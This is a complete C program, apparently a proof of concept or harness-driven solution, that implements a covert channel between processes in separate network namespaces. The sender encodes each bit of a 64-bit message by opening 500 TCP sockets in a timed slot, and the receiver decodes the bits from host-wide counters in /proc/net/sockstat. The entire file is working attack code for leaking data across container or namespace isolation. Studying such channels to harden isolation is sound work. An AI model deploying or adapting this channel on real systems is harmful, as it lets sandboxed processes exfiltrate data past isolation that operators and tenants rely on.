#define _GNU_SOURCE
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

/* Counters of sockstat for the whole host ("inuse" is for one namespace). To send a 1 the sender holds 500 sockets. */
static const char *const words[] = {"alloc ", "orphan ", "mem "};
#define COUNT (int)(sizeof words / sizeof *words)

static long value(const char *word) {
  char text[1024] = "";
  int fd = open("/proc/net/sockstat", O_RDONLY);
  if (fd < 0 || read(fd, text, sizeof text - 1) <= 0) text[0] = 0;
  close(fd);
  const char *line = strstr(text, "TCP:");
  const char *found = line == NULL ? NULL : strstr(line, word);
  return found == NULL ? 0 : atol(found + strlen(word));
}

static void later(struct timespec *when, long nanoseconds) {
  when->tv_nsec += nanoseconds;
  if (when->tv_nsec >= 1000000000) when->tv_sec++, when->tv_nsec -= 1000000000;
}

int main(void) {
  char role[16], message[32], start_time[32];
  if (scanf("%*s %15s %*s %31s %*s %31s", role, message, start_time) != 3) return 1;
  uint64_t bits = strtoull(message, NULL, 16), found[COUNT] = {0};
  long low[COUNT];
  int fds[500], sending = strcmp(role, "sender") == 0;
  struct timespec next = {(time_t)atof(start_time), 0};
  clock_nanosleep(CLOCK_REALTIME, TIMER_ABSTIME, &next, NULL);
  for (int i = 0; i < COUNT; i++) low[i] = value(words[i]);
  for (int bit = 63; bit >= 0; bit--) {
    later(&next, 30000000);
    clock_nanosleep(CLOCK_REALTIME, TIMER_ABSTIME, &next, NULL);
    int held = sending && (bits >> bit & 1) ? 500 : 0;
    for (int i = 0; i < held; i++) fds[i] = socket(AF_INET, SOCK_STREAM, 0);
    struct timespec middle = next;
    later(&middle, 15000000);
    clock_nanosleep(CLOCK_REALTIME, TIMER_ABSTIME, &middle, NULL);
    for (int i = 0; i < COUNT && !sending; i++) found[i] = found[i] << 1 | (uint64_t)(value(words[i]) - low[i] > 250);
    later(&middle, 5000000);
    clock_nanosleep(CLOCK_REALTIME, TIMER_ABSTIME, &middle, NULL);
    for (int i = 0; i < held; i++) close(fds[i]);
  }
  for (int i = 0; i < COUNT && !sending; i++) printf("GOT %016llx by %s\n", (unsigned long long)found[i], words[i]);
  return 0;
}
